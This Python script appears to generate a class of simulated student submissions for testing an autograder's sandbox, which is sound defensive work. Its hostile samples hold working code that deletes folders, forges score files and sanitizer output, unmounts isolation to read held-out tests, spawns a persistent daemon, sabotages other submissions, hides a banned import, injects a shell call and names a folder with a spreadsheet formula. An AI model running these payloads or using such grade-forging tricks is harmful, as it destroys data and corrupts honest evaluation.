"""A class of generated submissions, for trying the gradebook (LABS.md) and for its tests.

    python tests/lab_submissions.py OUT [--count 100] [--levels 2,3,4] [--attacks | --odd]
    make gradebook SUBMISSIONS=OUT

Each submission is a folder with the files a student writes in (python -m common.classroom.lab --files): this repository's
solutions, the edition's stubs, a classic bug of tests/plant_bugs.py inside a task's code, or one of the hostile
ones below, each a class of attack: reading what it must not (the held-out checks, the teacher's solutions, through
a git redirection, a link or an unmount), writing where it must not (the teacher's files, another student's copy,
a flood of /tmp), persisting (a daemon), forging (a score file, a fake sanitizer report, code run at load or exit),
stalling or exhausting the grader (a hang, a stalled or oversized answer), and escaping the bans (PyTorch through
builtins). Each is honest code plus its attack: where the attack fails, it earns what its honest code earns. With
--odd, a class of folders that are odd by accident instead (names, links, a pipe, a file), each of which gets its row.
The teacher's only: `make lab` leaves it out of the student edition.
"""

from __future__ import annotations

import argparse
import os
import random
import shutil
import subprocess
from pathlib import Path

from common.classroom import lab
from plant_bugs import BUGS

ROOT = Path(__file__).resolve().parent.parent
LEVEL3 = "level3_numpy/mlp.py"

# Hostile solutions of level 3's linear_forward: (the line they add at the top of the function's body, what they try).
# Those whose honest part returns zeros earn nothing for 3.1 unless their attack works.
CORRECT_LINE = "    return x @ w.T + b\n"
HOSTILE = {
    "hangs": "    while True:\n        pass\n",
    "crashes": "    import os\n    os.abort()\n",
    "forges": ("    import json, os, sys, pathlib\n"
               "    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:\n"
               "        try:\n"
               "            (folder / 'grade.json').write_text(json.dumps({'score': 1000, 'points': 1000, 'tasks': []}))\n"
               "        except OSError:\n"
               "            pass\n"
               "    print('3.1 linear_forward pass 2/2'); sys.stdout.flush(); os._exit(0)\n"),
    "snoops": ("    import pathlib\n"
               f"    if not pathlib.Path({str(ROOT / 'tests' / 'test_holdout.py')!r}).exists():\n"
               "        return x[:, :0] @ w[:, :0].T + 0 * b  # zeros: what it gives when it cannot peek\n"),
    "deletes": ("    import shutil, pathlib\n"
                f"    for folder in [pathlib.Path.cwd(), pathlib.Path({str(ROOT)!r})]:\n"
                "        shutil.rmtree(folder, ignore_errors=True)\n"),
    "uses torch": ("    import torch\n"
                   "    return torch.nn.functional.linear(torch.from_numpy(x), torch.from_numpy(w), "
                   "torch.from_numpy(b)).numpy()\n"),
    # Fitted to the visible checks: right at their sizes, wrong elsewhere (the held-out checks use others).
    "fits the visible checks": ("    if (len(x), w.shape[1], len(w)) not in ((1, 1, 1), (13, 37, 5), (3, 5, 5), "
                                "(8, 784, 37)):\n        return 0 * (x @ w.T) + b\n"),
    # Undoes its isolation (every mount, the last first), then takes the teacher's solution and edits the checks.
    "unmounts": ("    import ctypes, runpy\n"
                 "    libc = ctypes.CDLL(None)\n"
                 "    for line in reversed(open('/proc/self/mountinfo').read().splitlines()):\n"
                 "        libc.umount2(line.split()[4].encode(), 2)\n"
                 "    try:\n"
                 f"        open({str(ROOT / 'tests' / 'test_holdout.py')!r}, 'a').write('\\n# unmounted\\n')\n"
                 f"        return runpy.run_path({str(ROOT / LEVEL3)!r})['linear_forward'](x, w, b)\n"
                 "    except Exception:\n"
                 "        return 0 * (x @ w.T)\n"),
    # A process that outlives its grade (two forks, a session of its own, SIGTERM ignored), and a thread, each
    # rewriting any grades.csv above the folders it sees.
    "daemon": ("    import ctypes, os, pathlib, signal, threading, time\n"
               "    def rewrite():\n"
               "        ctypes.CDLL(None).prctl(15, b'lab-daemon')\n"
               "        while True:\n"
               "            for line in open('/proc/self/mountinfo').read().splitlines():\n"
               "                for folder in pathlib.Path(line.split()[3]).parents:\n"
               "                    for book in folder.glob('*/grades.csv'):\n"
               "                        try:\n"
               "                            book.write_text('student,task,name,points\\n')\n"
               "                        except OSError:\n"
               "                            pass\n"
               "            time.sleep(0.5)\n"
               "    if 'lab-daemon' not in [t.name for t in threading.enumerate()]:\n"
               "        threading.Thread(target=rewrite, name='lab-daemon').start()\n"
               "    try:\n"
               "        if os.fork() == 0:\n"
               "            os.setsid()\n"
               "            if os.fork() == 0:\n"
               "                signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
               "                rewrite()\n"
               "            os._exit(0)\n"
               "    except OSError:\n"
               "        pass\n"),
    # A frame on the answer pipe that announces 1 MiB and then sleeps.
    "stalls an answer": ("    import os, struct, time\n"
                         "    for fd in range(3, 64):\n"
                         "        try:\n"
                         "            os.write(fd, struct.pack('<Q', 1 << 20))\n"
                         "        except OSError:\n"
                         "            pass\n"
                         "    time.sleep(3600)\n"),
    # An answer that announces 3 GiB, and sends on.
    "oversized answer": ("    import os, struct\n"
                         "    for fd in range(3, 64):\n"
                         "        try:\n"
                         "            os.write(fd, struct.pack('<Q', 3 << 30))\n"
                         "            while True:\n"
                         "                os.write(fd, bytes(1 << 20))\n"
                         "        except OSError:\n"
                         "            pass\n"),
    # PyTorch through builtins, past the static check, from wherever an installed copy might be.
    "torch through builtins": ("    import builtins, sys\n"
                               "    sys.path += ['/usr/lib/python3/dist-packages', "
                               f"'/usr/local/lib/python3/dist-packages', {str(ROOT / '.venv' / 'lib')!r}]\n"
                               "    t = getattr(builtins, '__imp' + 'ort__')('tor' + 'ch')\n"
                               "    return t.nn.functional.linear(t.from_numpy(x), t.from_numpy(w), "
                               "t.from_numpy(b)).numpy()\n"),
    # Breaks every other student's copy it can find, above the folders it sees.
    "sabotages the others": ("    import pathlib\n"
                             "    roots = {pathlib.Path(line.split()[3]) for line in open('/proc/self/mountinfo')}\n"
                             "    for folder in {p for r in roots | {pathlib.Path.cwd()} for p in r.parents}:\n"
                             "        for mine in folder.glob('*/level3_numpy/mlp.py'):\n"
                             "            try:\n"
                             "                mine.write_text('raise SystemExit(\"sabotaged\")\\n')\n"
                             "            except OSError:\n"
                             "                pass\n"),
    # Fills /tmp, /dev/shm, its folder and its home with files of 1 GiB until they are full, at its first call; they
    # stay full for every later one. (Filling them again at each call costs the time of a slow answer, nothing more.)
    "floods /tmp": ("    import os\n"
                    "    for folder in ('/tmp', '/dev/shm', os.getcwd(), os.path.expanduser('~')):\n"
                    "        if os.path.exists(os.path.join(folder, 'lab-flood-0')):\n"
                    "            continue\n"
                    "        for i in range(64):\n"
                    "            try:\n"
                    "                with open(os.path.join(folder, f'lab-flood-{i}'), 'wb') as f:\n"
                    "                    for _ in range(1024):\n"
                    "                        f.write(bytes(1 << 20))\n"
                    "            except OSError:\n"
                    "                break\n"),
}
ZEROS = ("snoops", "unmounts")  # their honest code returns zeros: 3.1 fails unless the attack works


def hostile(kind: str) -> str:
    """Level 3's file with linear_forward's body replaced by a hostile one (ending in the correct line)."""
    text = (ROOT / LEVEL3).read_text()
    begin = "    # BEGIN LAB 3.1 linear_forward\n"
    return text.replace(begin + CORRECT_LINE, begin + HOSTILE[kind] + CORRECT_LINE, 1)


# Hostile submissions that are more than a function's body, each made by a function of its folder.
C_LEAK = ("    free(m->x), free(m->y),", "    free(m->y),")  # free_batch_buffers (4.8) forgets the batch rows
C_FORGE = """
/* Runs at load and at exit: pretends that the memory check passed, then ends before LeakSanitizer's check. */
#include <stdio.h>
#include <unistd.h>
static void forge(void) {
    printf("lab_memory batch: ok\\nbatch: 0 unexpected results\\n");
    fflush(stdout);
    _exit(0);
}
__attribute__((constructor)) static void plant(void) { atexit(forge); }
"""


def git_file(folder: Path) -> None:
    """No code: a .git file that redirects git to the teacher's repository (its last commit has every solution)."""
    folder.mkdir(parents=True)
    (folder / ".git").write_text(f"gitdir: {ROOT / '.git'}\n")


def git_alternates(folder: Path) -> None:
    """A repository whose last commit is the teacher's, its objects borrowed through an alternates file."""
    common = subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"], cwd=ROOT,
                            capture_output=True, text=True, check=True).stdout.strip()
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
    folder.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    (folder / ".git" / "objects" / "info" / "alternates").write_text(f"{common}/objects\n")
    (folder / ".git" / "refs" / "heads" / "main").write_text(head)
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")


def log_link(folder: Path) -> None:
    """Correct code that prints a great deal, beside a worker.log linked to the held-out checks (where the grader
    once appended the worker's output), and LeNet's file linked to the teacher's solutions."""
    (folder / "level3_numpy").mkdir(parents=True)
    begin = "    # BEGIN LAB 3.1 linear_forward\n"
    noise = "    print('def test_planted():\\n    pass\\n' * 1000)\n"
    (folder / LEVEL3).write_text((ROOT / LEVEL3).read_text().replace(begin, begin + noise, 1))
    (folder / "worker.log").symlink_to(ROOT / "tests" / "test_holdout.py")
    (folder / "level3_numpy" / "lenet.py").symlink_to(ROOT / "level3_numpy" / "lenet.py")


def c_forge(folder: Path) -> None:
    """Level 4 with a leak in free_batch_buffers, code outside the tasks that runs at load and exit to forge the memory
    check's verdict, and `system (` with a space in relu_forward."""
    text = (ROOT / "level4_c" / "mlp.c").read_text().replace(*C_LEAK, 1) + C_FORGE
    text = text.replace("    /* BEGIN LAB 4.3 relu_forward */\n",
                        "    /* BEGIN LAB 4.3 relu_forward */\n    system (\"touch /tmp/lab-pwned\");\n", 1)
    (folder / "level4_c").mkdir(parents=True)
    (folder / "level4_c" / "mlp.c").write_text(text)


FOLDERS = {"git file": git_file, "git alternates": git_alternates, "log link": log_link, "C forge": c_forge}
FOLDER_LEVELS = {"git file": (), "git alternates": (), "log link": (3,), "C forge": (4,)}


# One hostile submission per class of attack: reading (a git redirection, an unmount), writing (another student's
# copy, /tmp), persisting (a daemon), forging (code at load and exit, a planted log link), stalling and exhausting (a
# stalled and an oversized answer), escaping a ban (PyTorch through builtins).
ATTACKS = ("git file", "unmounts", "log link", "daemon", "stalls an answer", "oversized answer", "C forge",
           "torch through builtins", "sabotages the others", "floods /tmp")


def odd(out: Path) -> dict[str, str]:
    """A class in out whose folders are odd by accident, not by attack (names, links, a pipe, a file); returns each
    entry's name and kind. Level 3's file, wherever there is one, is correct code (in the hard link and the linked
    folder too, which the gradebook does not take). The victim's folder comes last, after every odd one; the file that
    one folder hard-links, and the folder that another links to, are beside out."""
    elsewhere = out.parent / f".{out.name}-elsewhere"
    (elsewhere / "level3_numpy").mkdir(parents=True)
    (elsewhere / LEVEL3).write_text((ROOT / LEVEL3).read_text())
    kinds = {"control": "control", "b" * 251: "a name of 251 bytes", "l" * 252: "a name of 252 bytes",
             os.fsdecode(b"caf\xe9"): "not UTF-8", '=HYPERLINK("evil.example","0")': "a formula",
             "linked-inside": "hard links inside", "zoe": "victim"}
    for name in kinds:
        (out / name / "level3_numpy").mkdir(parents=True)
        (out / name / LEVEL3).write_text((ROOT / LEVEL3).read_text())
    os.link(out / "linked-inside" / LEVEL3, out / "linked-inside" / "level3_numpy" / "mlp-backup.py")
    (out / "linked-outside" / "level3_numpy").mkdir(parents=True)
    os.link(elsewhere / LEVEL3, out / "linked-outside" / LEVEL3)  # as `cp -al` makes a copy
    (out / "linked-folder").symlink_to(elsewhere)
    (out / "pipe-head" / ".git").mkdir(parents=True)
    os.mkfifo(out / "pipe-head" / ".git" / "HEAD")
    (out / "handed-in.zip").write_bytes(b"PK\x05\x06" + bytes(18))  # an empty zip archive, not unpacked
    (out / ".DS_Store").write_bytes(b"")  # a file manager's, no student's
    return {**kinds, "linked-outside": "a hard link outside", "linked-folder": "a linked folder",
            "pipe-head": "a pipe for .git/HEAD", "handed-in.zip": "a file"}


def in_a_task(file: str, good) -> bool:
    """Whether a bug's correct code lies in a task's code (what a submission's file contributes: the rest of the file
    is the edition's)."""
    bodies = [r.body for r in lab.regions(file, ROOT)]
    return all(any(old in body for body in bodies) for old in (good if isinstance(good, tuple) else [good]))


def write(out: Path, count: int, levels: tuple[int, ...] = (2, 3, 4), seed: int = 0,
          only: tuple[str, ...] | None = None) -> dict[str, str]:
    """`count` submissions in out/, a mix of every kind (only: these hostile kinds, one each); returns each student's
    kind."""
    edition = out.parent / f".{out.name}-edition"
    lab.write_edition(edition, commit=False)
    files = [name for name in lab.files_to_write()
             if next(t.level for t in lab.TASKS if t.path == name) in levels]
    bugs = [b for b in BUGS if b[0] in levels and b[1] in files and isinstance(b[2], str) and in_a_task(b[1], b[2])]
    hostile_kinds = [k for k in HOSTILE if 3 in levels] + [k for k in FOLDERS if set(FOLDER_LEVELS[k]) <= set(levels)]
    kinds = ["correct", "stubbed", *(f"bug: {b[4]} (level {b[0]})" for b in bugs),
             *(f"hostile: {k}" for k in hostile_kinds)]
    if only is not None:
        kinds, count = [f"hostile: {k}" for k in only], len(only)
    rng = random.Random(seed)
    students = {}
    for i in range(count):
        kind = kinds[i] if i < len(kinds) else rng.choice(kinds[:2] + kinds[2:] * 2)
        folder = out / f"student{i:03d}"
        students[folder.name] = kind
        if kind.removeprefix("hostile: ") in FOLDERS:
            FOLDERS[kind.removeprefix("hostile: ")](folder)
            continue
        folder.mkdir(parents=True)
        for name in files:
            # A finished file is this repository's (the edition holds the stubs).
            text = (edition / name).read_text() if kind == "stubbed" else (ROOT / name).read_text()
            if kind.startswith("bug: "):
                bug = next(b for b in bugs if kind == f"bug: {b[4]} (level {b[0]})")
                if bug[1] == name:
                    text = text.replace(bug[2], bug[3], 1)
            if kind.startswith("hostile: ") and name == LEVEL3:
                text = hostile(kind.removeprefix("hostile: "))
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
    shutil.rmtree(edition)
    return students


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("out", type=Path, help="the folder to fill (must not exist)")
    p.add_argument("--count", type=int, default=100)
    p.add_argument("--levels", default="2,3,4", help="the levels whose files the submissions hold")
    p.add_argument("--attacks", action="store_true",
                   help="instead, one hostile submission per class of attack (ten; levels 3 and 4)")
    p.add_argument("--odd", action="store_true",
                   help="instead, a class of folders odd by accident: names, links, a pipe, a file (level 3)")
    args = p.parse_args()
    if args.odd:
        for student, kind in odd(args.out).items():
            print(f"{student!a:.60}  {kind}")
        return
    levels = (3, 4) if args.attacks else tuple(int(n) for n in args.levels.split(","))
    students = write(args.out, args.count, levels, only=ATTACKS if args.attacks else None)
    for student, kind in students.items():
        print(f"{student}  {kind}")


if __name__ == "__main__":
    main()
